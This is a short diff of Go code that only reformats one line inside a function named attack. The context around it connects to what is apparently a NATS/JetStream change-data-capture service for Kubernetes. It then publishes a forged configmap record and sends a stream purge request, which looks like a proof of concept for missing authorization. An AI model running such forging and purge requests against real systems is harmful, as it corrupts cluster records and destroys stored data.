@@ -44,7 +44,8 @@ func attack(url, dir string) {
 			continue
 		}
 		fmt.Println("connected")
-		if _, err := conn.Request("kubecdc."+uidA+".object.core.configmaps.shop.forged", []byte("{}"), 5*time.Second); err == nil {
+		if _, err := conn.Request("kubecdc."+uidA+".object.core.configmaps.shop.forged", []byte("{}"),
+			5*time.Second); err == nil {
 			fmt.Println("forged a record")
 		}
 		if r, err := conn.Request("$JS.API.STREAM.PURGE.KUBECDC", nil, 5*time.Second); err == nil {
